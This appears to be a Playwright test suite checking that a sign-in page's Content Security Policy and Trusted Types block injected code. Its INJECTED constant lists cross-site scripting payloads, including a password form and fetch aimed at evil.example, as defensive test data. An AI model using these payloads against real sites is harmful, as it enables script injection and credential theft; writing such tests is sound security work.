import type { Page } from '@playwright/test'
import { expect, test } from './fixtures'

/** What an attacker who found a hole in the server's escaping would write into the page. */
const INJECTED = `
  <script>window.harm = 'inline script'</script>
  <script src="data:text/javascript,window.harm='data script'"></script>
  <script src="https://cdn.jsdelivr.net/npm/evil"></script>
  <script nonce="guessed">window.harm = 'guessed nonce'</script>
  <img src="/nothing.png" onerror="window.harm = 'handler'">
  <a id="link" href="javascript:void(window.harm = 'link')">link</a>
  <style>body { outline: 7px solid red }</style>
  <p id="styled" style="outline: 7px solid red">styled</p>
  <object data="/favicon.svg"></object>
  <iframe srcdoc="<script>parent.harm = 'frame'</script>"></iframe>
  <base href="https://evil.example/">
  <form id="form" action="https://evil.example/"><input name="password"></form>`

test('code and styles that somebody writes into a page do nothing', async ({ page, complaints }) => {
  await inject(page, INJECTED)
  await page.goto('/sign-in')
  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible()
  await page.locator('#link').evaluate((link: HTMLElement) => link.click())
  await page.locator('#form').evaluate((form: HTMLFormElement) => form.submit())
  await page.waitForTimeout(300)
  expect(await page.evaluate(() => (window as { harm?: string }).harm)).toBeUndefined()
  const outlines = await page.evaluate(() =>
    ['body', '#styled'].map(
      (selector) => getComputedStyle(document.querySelector(selector) ?? document.body).outlineWidth,
    ),
  )
  expect(outlines).not.toContain('7px')
  expect(new URL(await page.evaluate(() => document.baseURI)).hostname).toBe('127.0.0.1')
  expect(page.url()).toContain('/sign-in')
  const broken = complaints.splice(0).join('\n')
  for (const directive of ['script-src', 'style-src', 'object-src', 'base-uri', 'form-action']) {
    expect(broken).toContain(directive)
  }
})

test('text never becomes markup or code without a policy of ours', async ({ page, complaints }) => {
  await page.goto('/sign-in')
  const outcomes = await page.evaluate(async () => {
    const tries: Record<string, () => void> = {
      innerHTML: () => Object.assign(document.body, { innerHTML: '<img src=x onerror=alert(1)>' }),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b></b>'),
      write: () => document.write('<b></b>'),
      source: () => Object.assign(document.createElement('script'), { src: '/x.js' }),
      parse: () => new DOMParser().parseFromString('<b></b>', 'text/html'),
      // biome-ignore lint/security/noGlobalEval: it must throw.
      evaluate: () => window.eval('1'),
      construct: () => new Function('return 1')(),
      policy: () =>
        (
          window as never as { trustedTypes: { createPolicy(name: string, rules: object): void } }
        ).trustedTypes.createPolicy('mine', {}),
    }
    // Code that a debugger starts may evaluate text; a timer's may not.
    await new Promise((done) => setTimeout(done))
    return Object.entries(tries).map(([name, act]) => {
      try {
        act()
        return `${name} worked`
      } catch (error) {
        return `${name} ${(error as Error).name}`
      }
    })
  })
  expect(outcomes.filter((outcome) => outcome.endsWith('worked'))).toEqual([])
  expect(complaints.splice(0).length).toBeGreaterThanOrEqual(outcomes.length)
})

test('a page talks to its own server only', async ({ page, complaints }) => {
  await page.goto('/sign-in')
  const answer = await page.evaluate(() =>
    fetch('https://evil.example/', { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'refused',
    ),
  )
  expect(answer).toBe('refused')
  expect(complaints.splice(0).join()).toContain('connect-src')
})

/** Adds to the body of every page, under the headers that the server sent with it. */
async function inject(page: Page, markup: string): Promise<void> {
  await page.route('**/sign-in', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('<div id="root"></div>', `<div id="root"></div>${markup}`)
    await route.fulfill({ response, body })
  })
}
